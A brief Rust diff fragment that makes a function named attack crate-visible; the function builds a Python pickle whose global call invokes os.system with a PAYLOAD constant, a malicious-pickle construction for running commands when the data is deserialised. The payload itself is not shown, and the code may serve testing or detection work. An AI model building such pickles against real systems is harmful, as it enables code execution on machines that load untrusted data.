@@ -221,7 +221,7 @@ impl Pickle {
     }
 }
 
-fn attack(protocol: u8) -> Vec<u8> {
+pub(crate) fn attack(protocol: u8) -> Vec<u8> {
     Pickle::new(protocol)
         .call(Names::Global, "os", "system", PAYLOAD)
         .stop()
